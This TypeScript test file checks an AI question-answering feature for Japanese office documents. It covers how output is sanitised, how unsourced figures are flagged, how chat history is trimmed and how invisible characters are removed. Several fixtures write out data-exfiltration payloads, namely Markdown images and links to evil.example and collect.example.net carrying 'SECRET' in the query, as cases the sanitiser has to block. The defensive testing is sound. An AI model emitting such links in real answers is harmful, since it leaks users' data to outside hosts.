import { ask, type AskRequest } from "@genai-office/shared/tasks";
import { composeMessages } from "@genai-office/shared/prompts";
import type { AskStep } from "@genai-office/shared/vocabulary";
import { cardWith, failed } from "../scripted-runner";
import { eventsOf, resultOf, ScriptedSteps } from "../scripted-steps";

const card = cardWith(8192, { outputTokens: 2048, tokensPerCharacter: 1.2, tasks: ["ask"] });

function request(more: Partial<AskRequest> = {}): AskRequest {
  return {
    question: "公文書の保存期間はどこで決まっていますか。",
    history: [],
    language: "ja",
    card,
    declaredClass: "none",
    confirmed: false,
    documentHash: "0".repeat(64),
    ...more,
  };
}

const turn = (number: number, characters = 20) => ({
  question: `質問${number}`.padEnd(characters, "あ"),
  answer: `回答${number}`.padEnd(characters, "い"),
});

describe("ask", () => {
  test("answers in Markdown, without thinking, pictures and HTML, and keeps code as it is", async () => {
    const steps = new ScriptedSteps(
      "ask",
      () =>
        '<think>考え中</think>\n**文書管理規則**で定まります。\n\n- 例：`a < b > c`\n![印](https://collect.example.net/?q=1)<img src="https://collect.example.net/2">\n',
    );
    const result = await resultOf(ask(request(), steps));
    expect(result.text).toBe("**文書管理規則**で定まります。\n\n- 例：`a < b > c`");
    expect(result).toMatchObject({ forgotten: 0, models: [card.id] });
  });

  test("a figure that the person did not bring is a finding at its place; one that was said before is none", async () => {
    const text = "保存期間は30年です。予算は120万円です。";
    const result = await resultOf(
      ask(
        request({ history: [{ question: "予算は", answer: "１２０万円と伺いました。" }] }),
        new ScriptedSteps("ask", () => text),
      ),
    );
    expect(result.findings).toEqual([
      expect.objectContaining({
        code: "figure-without-source",
        values: { found: "30年" },
        output: { start: 5, end: 8 },
      }),
    ]);
  });

  test("the newest turns travel as messages, whole and without a gap, as far as the model has room", async () => {
    const steps = new ScriptedSteps("ask", () => "はい。");
    const history = [turn(1), turn(2, 3000), turn(3), turn(4)];
    const result = await resultOf(ask(request({ history }), steps));
    expect(result.forgotten).toBe(2);
    const sent = steps.steps[0] as AskStep;
    expect(sent.options.history).toEqual([turn(3), turn(4)]);
    const messages = composeMessages(sent, card);
    expect(messages.map(({ role }) => role)).toEqual(["system", "user", "assistant", "user", "assistant", "user"]);
    expect(messages.at(-1)!.content).toBe(request().question);
  });

  test("a model that has less room than its card says is asked again with half of what was said before", async () => {
    let calls = 0;
    const steps = new ScriptedSteps("ask", () => {
      calls += 1;
      return calls === 1 ? failed("input-too-large") : "はい。";
    });
    const result = await resultOf(ask(request({ history: [turn(1), turn(2), turn(3), turn(4)] }), steps));
    expect(result.forgotten).toBe(2);
  });

  test("characters that nobody sees do not leave, neither with the question nor with what was said", async () => {
    const steps = new ScriptedSteps("ask", () => "はい。");
    const result = await resultOf(
      ask(
        request({ question: "保存\u200b期間は。", history: [{ question: "前\u200bの", answer: "答\u{e0041}え" }] }),
        steps,
      ),
    );
    expect((steps.steps[0] as AskStep).options).toMatchObject({
      question: "保存期間は。",
      history: [{ question: "前の", answer: "答え" }],
    });
    expect(result.findings.map(({ code }) => code)).toContain("invisible-characters");
  });

  test.each([
    ["no question", { question: " \n" }, "はい。", "bad-request"],
    ["a question without room", { question: "あ".repeat(9000) }, "はい。", "input-too-large"],
    ["an empty answer", {}, "<think>何も", "output-empty"],
  ])("%s fails by its code", async (_name, more, answer, code) => {
    const events = await eventsOf(ask(request(more), new ScriptedSteps("ask", () => answer)));
    expect(events.at(-1)).toMatchObject({ type: "failed", error: { code } });
  });

  test("what is shown on the way is the beginning of the answer, Markdown and all, however it is cut", async () => {
    const answer =
      "<think>考え</think>**文書管理規則**で定まります。\n\n- 一つ目\n- 二つ目は<b>太字</b>です\n![印](https://collect.example.net/1)\n\n|a|b|\n|-|-|\n|𠮟|2 < 3|";
    const events = await eventsOf(ask(request(), new ScriptedSteps("ask", () => answer)));
    let shown = "";
    for (const event of events) {
      if (event.type !== "preview") continue;
      expect(event.restarted).toBeUndefined();
      shown += event.text;
      expect(shown).not.toMatch(/think|collect|<b|\p{Cs}/u);
    }
    expect(events.at(-1)).toMatchObject({ type: "completed", result: { text: shown } });
    expect(shown).toContain("**文書管理規則**");
    expect(shown).toContain("|𠮟|2 < 3|");
  });

  test.each([
    "![x](https://evil.example/p?q=SECRET) です。",
    "[ここ](https://evil.example/p?q=SECRET)です。",
    "詳しくは https://evil.example/p?q=SECRET を見てください。",
    "詳しくはevil.example/p?q=SECRETです。",
    "図は![y][a]です。\n\n[a]: https://evil.example/p?q=SECRET\n以上です。",
  ])("nothing of a foreign address shows, not even on the way: %s", async (answer) => {
    for (const size of [1, 3, 7]) {
      const pieces = answer.match(new RegExp(`[^]{1,${size}}`, "g"))!;
      const steps = new ScriptedSteps("ask", () => [
        ...pieces.map((text) => ({ type: "text-delta" as const, text })),
        { type: "finished", reason: "stop" },
      ]);
      const events = await eventsOf(ask(request(), steps));
      expect(JSON.stringify(events.filter(({ type }) => type === "preview"))).not.toMatch(/SECRET|evil/);
    }
  });

  test("an address that the person brought may be repeated", async () => {
    const steps = new ScriptedSteps("ask", () => "https://ministry.example/rule の第3条です。");
    const result = await resultOf(ask(request({ question: "https://ministry.example/rule の何条ですか。" }), steps));
    expect(result.text).toContain("https://ministry.example/rule");
  });
});
